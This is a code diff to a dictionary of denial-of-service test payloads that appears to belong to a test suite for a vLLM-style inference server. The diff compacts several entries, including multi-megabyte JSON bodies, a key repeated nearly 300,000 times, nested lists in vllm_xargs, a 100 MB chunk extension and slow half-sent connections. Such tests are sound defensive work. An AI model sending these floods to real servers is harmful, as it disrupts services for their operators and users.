@@ -149,17 +149,9 @@ ATTACKS: Final = {
         "an array of 2.6 million objects, 8 MB", flood(request(PATH, b'{"a":[' + b"{}," * 2_600_000 + b"{}]}"))
     ),
     "str": Attack("a prompt of 8 MB", flood(request(PATH, b'{"prompt":"' + b"x" * (8 * MB - 20) + b'"}'))),
-    "args": Attack(
-        "8 MB of short lists in vllm_xargs",
-        flood(request(PATH, b'{"prompt":"hi","vllm_xargs":{"a":[' + b"[1]," * (2 * MB - 20) + b"1]}}")),
-    ),
-    "keys": Attack(
-        "a key 299,999 times, and 6 MB of short lists",
-        flood(request(PATH, b"{" + b'"n":1,' * 299_998 + b'"a":[' + b"[1]," * 1_600_000 + b"1]}")),
-    ),
-    "blank": Attack(
-        "a prompt behind 8 MB of blanks", flood(request(PATH, b'{"prompt":[' + b" " * (8 * MB - 20) + b'"hi"]}'))
-    ),
+    "args": Attack("lists in vllm_xargs", flood(request(PATH, b'{"vllm_xargs":{"a":[%b1]}}' % (b"[1]," * 2_097_000)))),
+    "keys": Attack("a key 299,999 times", flood(request(PATH, b'{%b"a":[1]}' % (b'"n":1,' * 299_998)))),
+    "blank": Attack("8 MB of blanks", flood(request(PATH, b'{"prompt":[%b"x"]}' % (b" " * (8 * MB - 20))))),
     "ext": Attack("a chunk's extension of 100 MB", flood(CHUNKED + b"1b;", [b"x" * MB] * 100)),
     "idle": Attack(
         "1,000 connections with half a head of 40 KB",
